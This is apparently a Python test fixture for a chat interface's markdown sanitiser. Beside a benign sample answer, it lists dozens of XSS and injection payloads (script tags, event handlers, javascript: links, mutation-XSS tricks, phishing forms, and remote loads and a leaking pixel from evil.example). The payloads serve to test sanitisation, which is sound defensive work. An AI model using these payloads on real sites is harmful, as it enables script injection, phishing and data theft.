"""Hostile answers: each tries to run script, to load from elsewhere, or to pass for the page.

Every payload calls `ran()` if it runs and names evil.example if it loads.
"""

LONG_ANSWER = """\
A request goes through **six** places, see the [notes](https://example.org/notes).

# From key press to token

1. The browser sends one `POST`.
2. Envoy checks the key.
   - a wrong key ends with a `401`

> A stream without a finish reason is a truncation.

#### What it costs

| Place | Median | Note |
|:--|--:|:--|
| Envoy | 0.2 ms | a note that is rather long, so that the table has to scroll on a phone |
| Engine | 38 ms | two cores |

```python
from openai import OpenAI

client = OpenAI(base_url="http://127.0.0.1:8080/v1", api_key=key)  # a line of some length
```

- [x] streams
- [ ] remembers
"""

HOSTILE = [
    "<script>ran()</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img src=https://evil.example/pixel.png>",
    "<img/src/onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<body onload=ran()>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/bg)">x</div>',
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<video src=https://evil.example/x.mp4 poster=https://evil.example/p.png autoplay></video>",
    "<audio src=https://evil.example/x.ogg autoplay onerror=ran()></audio>",
    "<template><script>ran()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
    "<a href=javascript:ran()>x</a>",
    "<button id=message class='icon-button send' onclick=ran()>Send</button>",
    "[x](javascript:ran())",
    "[x](JaVaScRiPt:ran())",
    "[x](java\tscript:ran())",
    "[x](&#106;avascript:ran())",
    "[x](javascript&colon;ran())",
    "[x](vbscript:ran())",
    "[x](data:text/html,<script>ran()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x](/v1/models)",
    "[x](//evil.example/x)",
    '[x](https://evil.example/" onmouseover="ran())',
    "<javascript:ran()>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:ran())",
    '![x"onerror="ran()](https://evil.example/pixel.png)',
    "[![x](https://evil.example/pixel.png)](javascript:ran())",
    "![x][ref]\n\n[ref]: https://evil.example/ref.png",
    "[ref]: javascript:ran()\n\n[x][ref]",
    '```"><img src=x onerror=ran()>\ncode\n```',
    "```html\n<img src=x onerror=ran()>\n<script>ran()</script>\n```",
    "`<img src=x onerror=ran()>`",
    "| <img src=x onerror=ran()> | b |\n|---|---|\n| <svg onload=ran()> | d |",
    "# <img src=x onerror=ran()>\n> <svg onload=ran()>\n- <script>ran()</script>",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<?xml-stylesheet href='javascript:ran()'?>",
    "&lt;img src=x onerror=ran()&gt;",
    "<img src=x onerror=ran()",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
    "<portal src=https://evil.example></portal>",
    "<p id=body name=body class=composer>x</p>",
]
